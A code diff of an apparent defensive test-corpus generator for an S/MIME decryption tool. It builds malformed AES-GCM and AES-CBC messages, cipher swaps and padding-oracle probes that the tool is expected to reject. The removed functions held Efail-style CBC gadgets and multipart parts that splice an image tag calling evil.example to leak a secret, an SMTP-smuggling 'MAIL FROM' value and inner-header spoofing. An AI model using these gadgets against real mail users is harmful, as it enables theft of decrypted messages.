@@ -1,11 +1,9 @@
-"""Encrypted content: parameters, tags, splices, a tag that is taken away (3, 4, 5)."""
+"""Encrypted content: parameters, tags, a tag that is taken away (3, 4)."""
 
 from .. import algorithms, cms, oids
-from ..der import algorithm, integer, null, octets, oid, sequence, tlv
+from ..der import integer, null, octets, sequence, tlv
 from ..keys import identity
-from ..mime import (
-    ENTITY, UNSIGNED, auth_enveloped, enveloped, lines, mail, multipart, multipart_signed, opaque,
-)
+from ..mime import ENTITY, UNSIGNED, auth_enveloped, enveloped, mail
 
 KEY = ["--key", "{keys}/bob@example.com.pem", "--cert", "{keys}/bob@example.com.crt"]
 ANYWAY = [*KEY, "--allow-unauthenticated"]
@@ -15,13 +13,11 @@ SHUT = [1, 65, 66]
 
 
 def add(corpus):
-    alice, bob = identity("alice"), identity("bob")
+    bob = identity("bob")
     gcm(corpus, bob)
     other_aead(corpus, bob)
     cbc_parameters(corpus, bob)
     swaps(corpus, bob)
-    splices(corpus, alice, bob)
-    who_signs(corpus, alice, bob)
 
 
 def key_of(word):
@@ -31,15 +27,36 @@ def key_of(word):
 def gcm(corpus, bob):
     def message(word, content=ENTITY, **changes):
         key = key_of(word)
-        return mail(auth_enveloped(cms.enveloped_gcm([cms.key_transport(bob, key)], key, content, **changes)))
+        return mail(
+            auth_enveloped(
+                cms.enveloped_gcm([cms.key_transport(bob, key)], key, content, **changes)
+            )
+        )
 
-    corpus.opens("03-gcm.eml", 3, "AES-128-GCM as it should be", message("gcm"), KEY,
-                 verdict="unsigned", integrity="aead")
+    corpus.opens(
+        "03-gcm.eml",
+        3,
+        "AES-128-GCM as it should be",
+        message("gcm"),
+        KEY,
+        verdict="unsigned",
+        integrity="aead",
+    )
     twelve = algorithms.stream("nonce", 12)
-    corpus.opens("03-gcm-tag-12.eml", 3, "a tag of 12 octets, which RFC 5084 3.2 allows, and ICVlen says so",
-                 message("tag 12", tag_length=12), KEY)
-    corpus.opens("03-gcm-tag-12-default.eml", 3, "the same by default: ICVlen is absent",
-                 message("tag 12 default", tag_length=None), KEY)
+    corpus.opens(
+        "03-gcm-tag-12.eml",
+        3,
+        "a tag of 12 octets, which RFC 5084 3.2 allows, and ICVlen says so",
+        message("tag 12", tag_length=12),
+        KEY,
+    )
+    corpus.opens(
+        "03-gcm-tag-12-default.eml",
+        3,
+        "the same by default: ICVlen is absent",
+        message("tag 12 default", tag_length=None),
+        KEY,
+    )
     for word, about, changes in [
         ("nonce-0", "an empty nonce, and all else fits it", {"nonce": b""}),
         ("tag-1", "a tag of one octet, and ICVlen says so", {"tag_length": 1}),
@@ -49,38 +66,103 @@ def gcm(corpus, bob):
         ("tag-0", "no tag, and ICVlen says so", {"tag_length": 0, "tag": lambda it: b""}),
         ("tag-shorter", "ICVlen 16, the tag has 12", {"tag": lambda it: it[:12]}),
         ("tag-longer", "ICVlen 12, the tag has 16", {"tag_length": 12, "tag": lambda it: it}),
-        ("tag-longer-default", "ICVlen absent, so 12; the tag has 16", {"tag_length": None, "tag": lambda it: it}),
-        ("tag-17", "ICVlen 17, and an octet more", {"tag_length": 17, "tag": lambda it: it + b"\x00"}),
+        (
+            "tag-longer-default",
+            "ICVlen absent, so 12; the tag has 16",
+            {"tag_length": None, "tag": lambda it: it},
+        ),
+        (
+            "tag-17",
+            "ICVlen 17, and an octet more",
+            {"tag_length": 17, "tag": lambda it: it + b"\x00"},
+        ),
         ("tag-negative", "ICVlen -12", {"tag_length": -12, "tag": lambda it: it[:12]}),
         ("tag-huge", "ICVlen 2^64 + 12", {"tag_length": 2**64 + 12, "tag": lambda it: it[:12]}),
         ("no-parameters", "no parameters", {"parameters": b""}),
         ("null-parameters", "NULL parameters", {"parameters": null()}),
         ("empty-parameters", "an empty SEQUENCE of parameters", {"parameters": sequence()}),
-        ("nonce-integer", "the nonce is an INTEGER", {"parameters": sequence(integer(5), integer(16))}),
-        ("parameters-more", "a third parameter", {"nonce": twelve, "parameters": sequence(octets(twelve), integer(16), integer(1))}),
+        (
+            "nonce-integer",
+            "the nonce is an INTEGER",
+            {"parameters": sequence(integer(5), integer(16))},
+        ),
+        (
+            "parameters-more",
+            "a third parameter",
+            {"nonce": twelve, "parameters": sequence(octets(twelve), integer(16), integer(1))},
+        ),
     ]:
-        corpus.stays_shut(f"03-gcm-{word}.eml", 3, f"AES-GCM: {about}", message(word, **changes), KEY, SHUT, never=SECRET)
-    corpus.stays_shut("03-gcm-changed.eml", 3, "one bit of the content is another",
-                      message("changed", tag=lambda it: it[:-1] + bytes([it[-1] ^ 1])), KEY, SHUT, never=SECRET)
-    corpus.stays_shut("03-gcm-changed.eml", 3, "and --allow-unauthenticated does not help", None, ANYWAY, SHUT, never=SECRET)
+        corpus.stays_shut(
+            f"03-gcm-{word}.eml",
+            3,
+            f"AES-GCM: {about}",
+            message(word, **changes),
+            KEY,
+            SHUT,
+            never=SECRET,
+        )
+    corpus.stays_shut(
+        "03-gcm-changed.eml",
+        3,
+        "one bit of the content is another",
+        message("changed", tag=lambda it: it[:-1] + bytes([it[-1] ^ 1])),
+        KEY,
+        SHUT,
+        never=SECRET,
+    )
+    corpus.stays_shut(
+        "03-gcm-changed.eml",
+        3,
+        "and --allow-unauthenticated does not help",
+        None,
+        ANYWAY,
+        SHUT,
+        never=SECRET,
+    )
     attributes = tlv(0x31, *sorted([cms.content_type(), cms.signing_time()]))
-    for word, sent, valid in [("attributes", attributes, True), ("attributes-gone", None, False),
-                              ("attributes-other", tlv(0x31, cms.content_type()), False)]:
+    for word, sent, valid in [
+        ("attributes", attributes, True),
+        ("attributes-gone", None, False),
+        ("attributes-other", tlv(0x31, cms.content_type()), False),
+    ]:
         key = key_of("attributes")
         nonce = algorithms.stream("attributes", 12)
         content, tag = algorithms.gcm_encrypt(key, nonce, ENTITY, attributes)
         info = cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content)
-        data = cms.auth_enveloped_data([cms.key_transport(bob, key)], info, tag,
-                                       b"\xa1" + sent[1:] if sent else b"")
+        data = cms.auth_enveloped_data(
+            [cms.key_transport(bob, key)], info, tag, b"\xa1" + sent[1:] if sent else b""
+        )
         message_ = mail(auth_enveloped(data))
         if valid:
-            corpus.opens(f"03-gcm-{word}.eml", 3, "AES-GCM over attributes too (RFC 5083 2.2)", message_, KEY)
+            corpus.opens(
+                f"03-gcm-{word}.eml", 3, "AES-GCM over attributes too (RFC 5083 2.2)", message_, KEY
+            )
         else:
-            corpus.stays_shut(f"03-gcm-{word}.eml", 3, f"the authenticated {word.replace('-', ' are ')}", message_, KEY, SHUT, never=SECRET)
-    corpus.stays_shut("03-gcm-empty.eml", 3, "no content at all",
-                      mail(auth_enveloped(cms.auth_enveloped_data(
-                          [cms.key_transport(bob, key_of("absent"))],
-                          cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(twelve, 16), None), bytes(16)))), KEY, SHUT)
+            corpus.stays_shut(
+                f"03-gcm-{word}.eml",
+                3,
+                f"the authenticated {word.replace('-', ' are ')}",
+                message_,
+                KEY,
+                SHUT,
+                never=SECRET,
+            )
+    corpus.stays_shut(
+        "03-gcm-empty.eml",
+        3,
+        "no content at all",
+        mail(
+            auth_enveloped(
+                cms.auth_enveloped_data(
+                    [cms.key_transport(bob, key_of("absent"))],
+                    cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(twelve, 16), None),
+                    bytes(16),
+                )
+            )
+        ),
+        KEY,
+        SHUT,
+    )
 
 
 def other_aead(corpus, bob):
@@ -99,10 +181,19 @@ def other_aead(corpus, bob):
         ("chacha-no-parameters", oids.CHACHA20_POLY1305, b"", 16),
     ]:
         key = algorithms.digest("sha256", word.encode())[: 32 if "chacha" in word else 16]
-        data = cms.auth_enveloped_data([cms.key_transport(bob, key)],
-                                       cms.encrypted_content(kind, parameters, bytes(40)), bytes(tag))
-        corpus.stays_shut(f"03-{word}.eml", 3, f"AEAD parameters: {word.replace('-', ' ')}",
-                          mail(auth_enveloped(data)), KEY, SHUT)
+        data = cms.auth_enveloped_data(
+            [cms.key_transport(bob, key)],
+            cms.encrypted_content(kind, parameters, bytes(40)),
+            bytes(tag),
+        )
+        corpus.stays_shut(
+            f"03-{word}.eml",
+            3,
+            f"AEAD parameters: {word.replace('-', ' ')}",
+            mail(auth_enveloped(data)),
+            KEY,
+            SHUT,
+        )
 
 
 def cbc_parameters(corpus, bob):
@@ -112,25 +203,84 @@ def cbc_parameters(corpus, bob):
     encrypted = algorithms.cbc_encrypt(key, iv, ENTITY)
     cbc = oids.AES_CBC[16]
     for word, parameters, content in [
-        ("no-iv", b"", encrypted), ("null-iv", null(), encrypted), ("iv-0", octets(b""), encrypted),
-        ("iv-8", octets(iv[:8]), encrypted), ("iv-17", octets(iv + b"\x00"), encrypted),
-        ("iv-sequence", sequence(octets(iv)), encrypted), ("content-cut", octets(iv), encrypted[:-1]),
-        ("content-empty", octets(iv), b""), ("content-absent", octets(iv), None),
+        ("no-iv", b"", encrypted),
+        ("null-iv", null(), encrypted),
+        ("iv-0", octets(b""), encrypted),
+        ("iv-8", octets(iv[:8]), encrypted),
+        ("iv-17", octets(iv + b"\x00"), encrypted),
+        ("iv-sequence", sequence(octets(iv)), encrypted),
+        ("content-cut", octets(iv), encrypted[:-1]),
+        ("content-empty", octets(iv), b""),
+        ("content-absent", octets(iv), None),
     ]:
         data = cms.enveloped_data(recipients, cms.encrypted_content(cbc, parameters, content))
-        corpus.stays_shut(f"03-cbc-{word}.eml", 3, f"AES-CBC: {word.replace('-', ' ')}", mail(enveloped(data)), ANYWAY, SHUT, never=SECRET)
-    corpus.stays_shut("03-cipher-unknown.eml", 3, "a cipher that nobody knows: named",
-                      mail(enveloped(cms.enveloped_data(recipients, cms.encrypted_content("1.2.3.4", octets(iv), encrypted)))),
-                      ANYWAY, SHUT, says=["1.2.3.4"])
-    corpus.stays_shut("03-des.eml", 3, "DES: refused by name, the legacy flag or not",
-                      mail(enveloped(cms.enveloped_data(recipients, cms.encrypted_content("1.3.14.3.2.7", octets(iv[:8]), encrypted)))),
-                      [*ANYWAY, "--allow-legacy"], SHUT, says=["des"])
-    corpus.stays_shut("03-3des-no-iv.eml", 1, "3DES without its parameters",
-                      mail(enveloped(cms.enveloped_data(recipients, cms.encrypted_content("1.2.840.113549.3.7", b"", encrypted)))),
-                      [*ANYWAY, "--allow-legacy"], SHUT)
-    corpus.stays_shut("03-rc2-no-parameters.eml", 1, "RC2 without its parameters",
-                      mail(enveloped(cms.enveloped_data(recipients, cms.encrypted_content("1.2.840.113549.3.2", b"", encrypted)))),
-                      [*ANYWAY, "--allow-legacy"], SHUT)
+        corpus.stays_shut(
+            f"03-cbc-{word}.eml",
+            3,
+            f"AES-CBC: {word.replace('-', ' ')}",
+            mail(enveloped(data)),
+            ANYWAY,
+            SHUT,
+            never=SECRET,
+        )
+    corpus.stays_shut(
+        "03-cipher-unknown.eml",
+        3,
+        "a cipher that nobody knows: named",
+        mail(
+            enveloped(
+                cms.enveloped_data(
+                    recipients, cms.encrypted_content("1.2.3.4", octets(iv), encrypted)
+                )
+            )
+        ),
+        ANYWAY,
+        SHUT,
+        says=["1.2.3.4"],
+    )
+    corpus.stays_shut(
+        "03-des.eml",
+        3,
+        "DES: refused by name, the legacy flag or not",
+        mail(
+            enveloped(
+                cms.enveloped_data(
+                    recipients, cms.encrypted_content("1.3.14.3.2.7", octets(iv[:8]), encrypted)
+                )
+            )
+        ),
+        [*ANYWAY, "--allow-legacy"],
+        SHUT,
+        says=["des"],
+    )
+    corpus.stays_shut(
+        "03-3des-no-iv.eml",
+        1,
+        "3DES without its parameters",
+        mail(
+            enveloped(
+                cms.enveloped_data(
+                    recipients, cms.encrypted_content("1.2.840.113549.3.7", b"", encrypted)
+                )
+            )
+        ),
+        [*ANYWAY, "--allow-legacy"],
+        SHUT,
+    )
+    corpus.stays_shut(
+        "03-rc2-no-parameters.eml",
+        1,
+        "RC2 without its parameters",
+        mail(
+            enveloped(
+                cms.enveloped_data(
+                    recipients, cms.encrypted_content("1.2.840.113549.3.2", b"", encrypted)
+                )
+            )
+        ),
+        [*ANYWAY, "--allow-legacy"],
+        SHUT,
+    )
 
 
 def swaps(corpus, bob):
@@ -138,119 +288,106 @@ def swaps(corpus, bob):
     key, nonce = key_of("swap"), algorithms.stream("swap", 12)
     recipients = [cms.key_transport(bob, key)]
     content, tag = algorithms.gcm_encrypt(key, nonce, algorithms.padded(ENTITY))
-    corpus.opens("04-gcm.eml", 4, "what the attacker begins with",
-                 mail(auth_enveloped(cms.auth_enveloped_data(recipients, cms.encrypted_content(
-                     oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content), tag))), KEY, integrity="aead")
+    corpus.opens(
+        "04-gcm.eml",
+        4,
+        "what the attacker begins with",
+        mail(
+            auth_enveloped(
+                cms.auth_enveloped_data(
+                    recipients,
+                    cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content),
+                    tag,
+                )
+            )
+        ),
+        KEY,
+        integrity="aead",
+    )
     iv = nonce + b"\x00\x00\x00\x02"
-    as_cbc = cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), content))
+    as_cbc = cms.enveloped_data(
+        recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), content)
+    )
     # The key is the maker's to know: blocks that decrypt to chosen text, as an oracle would give them.
     chosen = algorithms.cbc_encrypt(key, iv, UNSIGNED)
-    padded = cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), chosen))
+    padded = cms.enveloped_data(
+        recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), chosen)
+    )
     about = "AuthEnvelopedData rebuilt as EnvelopedData with AES-CBC"
-    corpus.stays_shut("04-cbc.eml", 4, f"{about}: noise", mail(enveloped(as_cbc)), KEY, SHUT, never=SECRET)
-    corpus.stays_shut("04-cbc-chosen.eml", 4, f"{about}: text of the attacker's", mail(enveloped(padded)), KEY, [1],
-                      verdict="unsigned", integrity="none", never="9000")
-    corpus.opens("04-cbc-chosen.eml", 4, "and with --allow-unauthenticated, marked as that", None, ANYWAY,
-                 verdict="unsigned", integrity="none")
+    corpus.stays_shut(
+        "04-cbc.eml", 4, f"{about}: noise", mail(enveloped(as_cbc)), KEY, SHUT, never=SECRET
+    )
+    corpus.stays_shut(
+        "04-cbc-chosen.eml",
+        4,
+        f"{about}: text of the attacker's",
+        mail(enveloped(padded)),
+        KEY,
+        [1],
+        verdict="unsigned",
+        integrity="none",
+        never="9000",
+    )
+    corpus.opens(
+        "04-cbc-chosen.eml",
+        4,
+        "and with --allow-unauthenticated, marked as that",
+        None,
+        ANYWAY,
+        verdict="unsigned",
+        integrity="none",
+    )
     # The right beginning and an attacker's end: whether the padding is right must not be told.
     for word, last in [("padding-right", b"\x01"), ("padding-wrong", b"\x00")]:
-        probe = algorithms.cbc_encrypt(key, iv, ENTITY.ljust(len(ENTITY) + -len(ENTITY) % 16, b"x")[:-1] + last, pad=lambda it: it)
-        data = cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), probe))
-        corpus.stays_shut(f"04-{word}.eml", 4, f"CBC with a plausible beginning, {word.replace('-', ' ')}: no oracle",
-                          mail(enveloped(data)), KEY, SHUT, never=SECRET, alike="cbc-padding")
+        probe = algorithms.cbc_encrypt(
+            key,
+            iv,
+            ENTITY.ljust(len(ENTITY) + -len(ENTITY) % 16, b"x")[:-1] + last,
+            pad=lambda it: it,
+        )
+        data = cms.enveloped_data(
+            recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), probe)
+        )
+        corpus.stays_shut(
+            f"04-{word}.eml",
+            4,
+            f"CBC with a plausible beginning, {word.replace('-', ' ')}: no oracle",
+            mail(enveloped(data)),
+            KEY,
+            SHUT,
+            never=SECRET,
+            alike="cbc-padding",
+        )
     for word, data in [
-        ("gcm-in-enveloped", cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content))),
-        ("gcm-in-enveloped-tag", cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content + tag))),
-        ("cbc-in-auth-enveloped", cms.auth_enveloped_data(recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), chosen), bytes(16))),
+        (
+            "gcm-in-enveloped",
+            cms.enveloped_data(
+                recipients,
+                cms.encrypted_content(oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content),
+            ),
+        ),
+        (
+            "gcm-in-enveloped-tag",
+            cms.enveloped_data(
+                recipients,
+                cms.encrypted_content(
+                    oids.AES_GCM[16], cms.gcm_parameters(nonce, 16), content + tag
+                ),
+            ),
+        ),
+        (
+            "cbc-in-auth-enveloped",
+            cms.auth_enveloped_data(
+                recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), chosen), bytes(16)
+            ),
+        ),
     ]:
-        corpus.stays_shut(f"04-{word}.eml", 4, f"a cipher in a structure that is not for it: {word}",
-                          mail(enveloped(data)), ANYWAY, SHUT, never="pay")
-
-
-def gadget(iv, first, known, wanted):
-    """Two blocks, of which the second decrypts to what is wanted (Efail 4.2)."""
-    return algorithms.xor(algorithms.xor(iv, known), wanted.ljust(16)) + first
-
-
-def splices(corpus, alice, bob):
-    html = (b"Content-Type: text/html; charset=us-ascii\r\n\r\n" + b"<p>The secret word is seal.</p>\r\n" * 3)
-    key, iv = key_of("splice"), algorithms.stream("splice", 16)
-    recipients = [cms.key_transport(bob, key)]
-    encrypted = algorithms.cbc_encrypt(key, iv, html)
-    gadgets = b"".join(gadget(iv, encrypted[:16], html[:16], wanted)
-                       for wanted in (b"<img alt='", b"' src='//evil.ex", b"ample/?"))
-    # The header stays what it is; then the attacker's tag, then the message once more.
-    spliced = encrypted[:64] + gadgets + encrypted
-    data = cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), spliced))
-    plain = algorithms.cbc_decrypt(key, iv, spliced)
-    assert b"' src='//evil.ex" in plain and plain.endswith(algorithms.cbc_decrypt(key, iv, encrypted)[-16:])
-    corpus.stays_shut("05-splice.eml", 5, "an image tag spliced into CBC content, in front of the secret",
-                      mail(enveloped(data)), KEY, [1], verdict="unsigned", never="secret word")
-    corpus.opens("05-splice.eml", 5, "and with --allow-unauthenticated, for that is asked for", None, ANYWAY,
-                 verdict="unsigned", integrity="none")
-    # Mallory's own signature around it proves nothing about what is inside.
-    dave = identity("dave")
-    outer = enveloped(data)
-    around = cms.signed_by(dave, outer, detached=True, sign=cms.by_ecdsa(dave.key), signature=algorithm(oids.ECDSA["sha256"]))
-    corpus.stays_shut("05-splice-signed-outside.eml", 5, "the spliced content, signed from outside by whoever spliced it",
-                      mail(multipart_signed(outer, around), replaced={"From": ["From: dave@example.com"]}),
-                      KEY, [1], never="secret word")
-    signed = multipart_signed(html, cms.signed_by(alice, html, detached=True))
-    encrypted = algorithms.cbc_encrypt(key, iv, signed)
-    at = (signed.index(b"<p>") + 16) // 16 * 16
-    spliced = encrypted[:at] + gadget(iv, encrypted[:16], signed[:16], b"<img src='//evil") + encrypted[at:]
-    data = cms.enveloped_data(recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), spliced))
-    corpus.stays_shut("05-splice-signed.eml", 5, "the same, inside signed text: the signature does not hold",
-                      mail(enveloped(data)), KEY, [1], verdict="invalid", signature=["invalid"], never="secret word")
-    corpus.opens("05-signed.eml", 5, "signed, then encrypted with AES-CBC",
-                 mail(enveloped(cms.enveloped_cbc(recipients, key, signed))), KEY, verdict="valid", signature=["valid"])
-    # Efail 4.1: no cryptography broken, only parts put side by side.
-    parts = [b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/?\r\n",
-             enveloped(cms.enveloped_cbc(recipients, key, html)), b"Content-Type: text/html\r\n\r\n'>\r\n"]
-    corpus.stays_shut("05-direct.eml", 5, "the encrypted part between two of the attacker's",
-                      mail(multipart(parts)), KEY, SHUT, never="secret word")
-    corpus.stays_shut("05-direct-gcm.eml", 5, "the same with AES-GCM",
-                      mail(multipart([parts[0], auth_enveloped(cms.enveloped_gcm(recipients, key, html)), parts[2]])),
-                      KEY, [0, *SHUT], output=None)
-
-
-def who_signs(corpus, alice, bob):
-    key = key_of("inside")
-    recipients = [cms.key_transport(bob, key)]
-
-    def encrypted(entity):
-        return enveloped(cms.enveloped_cbc(recipients, key, entity))
-
-    unsigned = mail(encrypted(ENTITY))
-    corpus.stays_shut("05-unsigned.eml", 5, "AES-CBC, and nobody signs", unsigned, KEY, [1], verdict="unsigned",
-                      integrity="none", never=SECRET)
-    corpus.opens("05-unsigned.eml", 5, "and with --allow-unauthenticated", None, ANYWAY, verdict="unsigned", integrity="none")
-    signed = multipart_signed(ENTITY, cms.signed_by(alice, ENTITY, detached=True), boundary="=_inner")
-    part = mail(encrypted(multipart([UNSIGNED, signed])))
-    corpus.stays_shut("05-signed-partly.eml", 5, "AES-CBC around a signed part and an unsigned one", part, KEY, [1], never="9000")
-    bent = signed.replace(b"100 to", b"900 to")
-    corpus.stays_shut("05-signed-wrongly.eml", 5, "AES-CBC around a signature that does not hold", mail(encrypted(bent)),
-                      KEY, [1], verdict="invalid", signature=["invalid"], never="Please pay")
-    stranger = mail(encrypted(signed), replaced={"From": ["From: bob@example.com"]})
-    corpus.case("05-signed-by-other.eml", 5, "AES-CBC around a good signature of somebody else's: written, and told",
-                stranger, "open", KEY, 1, verdict="invalid", signature=["valid"], address=["mismatch"], output=True)
-    outside = encrypted(signed)
-    corpus.opens("05-triple.eml", 5, "signed, encrypted, signed again",
-                 mail(multipart_signed(outside, cms.signed_by(alice, outside, detached=True))), KEY,
-                 verdict="valid", signature=["valid", "valid"])
-    outside = encrypted(ENTITY)
-    corpus.stays_shut("05-signed-outside.eml", 5, "Alice signs what is encrypted, and nobody what is inside",
-                      mail(multipart_signed(outside, cms.signed_by(alice, outside, detached=True))), KEY, [0, 1],
-                      output=None)
-    # The inner header may not speak over the outer one.
-    for word, field in [("from", b"From: ceo@example.com\r\n"), ("bcc", b"Bcc: mallory@evil.example\r\n")]:
-        inner = field + ENTITY
-        key_inside = key_of(word)
-        corpus.case(f"14-inner-{word}.eml", 14, f"the encrypted entity begins with {field.decode().strip()}",
-                    mail(auth_enveloped(cms.enveloped_gcm([cms.key_transport(bob, key_inside)], key_inside, inner))),
-                    "open", KEY, [0, 1, 65], output=None)
-    # RFC 5321 4.5.2: what was hidden from the relays comes out as it was, and the next hop has to stuff it.
-    smuggled = ENTITY + b"\n.\r\nMAIL FROM:<mallory@evil.example>\r\n"
-    key_inside = key_of("smuggled")
-    corpus.opens("37-smuggled.eml", 37, "an end of data inside encrypted content comes out unchanged",
-                 mail(auth_enveloped(cms.enveloped_gcm([cms.key_transport(bob, key_inside)], key_inside, smuggled))), KEY)
+        corpus.stays_shut(
+            f"04-{word}.eml",
+            4,
+            f"a cipher in a structure that is not for it: {word}",
+            mail(enveloped(data)),
+            ANYWAY,
+            SHUT,
+            never="pay",
+        )
